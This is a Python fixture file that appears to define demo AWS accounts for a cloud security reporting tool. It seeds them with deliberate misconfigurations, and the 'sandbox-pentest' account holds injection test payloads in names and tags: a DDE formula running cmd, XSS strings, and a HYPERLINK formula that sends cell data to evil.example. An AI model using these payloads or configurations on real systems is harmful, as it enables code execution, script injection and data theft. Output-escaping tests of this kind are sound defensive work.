"""The demo's development and sandbox accounts; one is still empty."""

from __future__ import annotations

from dataclasses import replace

from reporter.demo.baseline import LANDING_ZONE, Baseline
from reporter.demo.organization import MANAGEMENT_ACCOUNT, Member
from reporter.demo.plan import AccountPlan, Contents
from reporter.demo.platform import SSO_ROLE
from reporter.demo.services.ec2.compute import Compute, Instance
from reporter.demo.services.ec2.network import ANYWHERE_V4, Network, Opening, SecurityGroup, Subnet
from reporter.demo.services.iam.identities import Grants, Group, Identities, Key, Role, User, account, allow, service
from reporter.demo.services.iam.state import RootUser
from reporter.demo.services.s3.buckets import Bucket

SHOP_DEV = AccountPlan(
    Member(name="shop-dev", ou="Workloads/Dev", owner="Shop team"),
    Contents(
        baseline=replace(
            LANDING_ZONE, root=RootUser(mfa=False), password_length=12, remembered_passwords=0, encrypted_regions=()
        ),
        identities=Identities(
            policies={"bootstrap-admin": allow("*")},
            groups=(Group(name="developers", grants=Grants(aws=("PowerUserAccess", "AWSCloudShellFullAccess"))),),
            users=(
                User(name="jonas.weber", console=True, mfa=True, groups=("developers",)),
                User(name="intern-2024", age=420, console=True, password_used=390, groups=("developers",)),
                User(name="github-actions", keys=(Key(age=75, used=0),), groups=("developers",)),
            ),
            roles=(
                SSO_ROLE,
                Role(name="preview", trusts=service("ec2"), for_instances=True),
            ),
        ),
        buckets=(
            Bucket(name="brightwater-shop-dev-assets", blocked=False, versioning=True),
            Bucket(name="brightwater-shop-dev-builds", tls_only=True, expires_after=14),
        ),
        networks=(
            Network(
                name="shop-dev",
                cidr="10.120.0.0/16",
                subnets=(Subnet(name="shop-dev-public-a", cidr="10.120.0.0/24", public=True),),
                groups=(
                    SecurityGroup(
                        name="preview",
                        description="Preview environments",
                        openings=(Opening(8000, (ANYWHERE_V4,), to_port=8999), Opening(22, ("203.0.113.0/24",))),
                    ),
                    SecurityGroup(name="preview-old", description="Preview environments, first attempt"),
                ),
            ),
        ),
        compute=Compute(
            instances=(
                Instance(name="preview-1", subnet="shop-dev-public-a", group="preview", role="preview"),
                Instance(name="preview-2", subnet="shop-dev-public-a", group="preview", imdsv2=False),
            ),
            loose_addresses=1,
        ),
    ),
)

SANDBOX_SECURITY = AccountPlan(
    Member(name="sandbox-pentest", ou="Sandbox", owner="Security team"),
    Contents(
        baseline=Baseline(root=RootUser(mfa=True), root_used=4, contact=True),
        identities=Identities(
            users=(
                User(
                    name="pentest", age=200, console=True, password_used=9, grants=Grants(aws=("AdministratorAccess",))
                ),
            ),
            roles=(Role(name="attack-range", trusts=account(MANAGEMENT_ACCOUNT)),),
        ),
        buckets=(Bucket(name="brightwater-pentest-loot", tags={"note": "@SUM(1+9)*cmd|' /C calc'!A0"}),),
        networks=(
            Network(
                name="<script>alert(document.domain)</script>",
                cidr="10.200.0.0/16",
                subnets=(Subnet(name="attack-range-a", cidr="10.200.0.0/24", public=True),),
                groups=(
                    SecurityGroup(
                        name="attack-range",
                        description="Report injection test",
                        openings=(Opening(0, (ANYWHERE_V4,), to_port=65535),),
                        tags={"Name": '=HYPERLINK("http://evil.example/?"&A1,"open me")'},
                    ),
                ),
            ),
        ),
        compute=Compute(
            instances=(
                Instance(
                    name='"><img src=x onerror=alert(1)>', subnet="attack-range-a", group="attack-range", imdsv2=False
                ),
            ),
        ),
    ),
)

SANDBOX_DATA = AccountPlan(
    Member(name="sandbox-data-science", ou="Sandbox", owner="Data team"),
    Contents(
        baseline=replace(LANDING_ZONE, default_networks=True),
        identities=Identities(
            policies={"experiments": allow("sagemaker:*", "s3:GetObject")},
            users=(
                User(
                    name="lena.okafor",
                    console=True,
                    mfa=True,
                    keys=(Key(age=200, used=60),),
                    grants=Grants(own=("experiments",)),
                ),
            ),
        ),
        buckets=(Bucket(name="brightwater-experiments", tls_only=True, versioning=True),),
    ),
)
"""A service control policy denies access to EC2 instances here."""

SANDBOX_NEW = AccountPlan(Member(name="sandbox-onboarding", ou="Sandbox", owner="Platform team"), Contents())
"""Opened yesterday, and unchanged since."""

LEGACY_ERP = AccountPlan(
    Member(name="legacy-erp", ou="Sandbox", owner="Finance", suspended=True, audit_role=False), Contents()
)
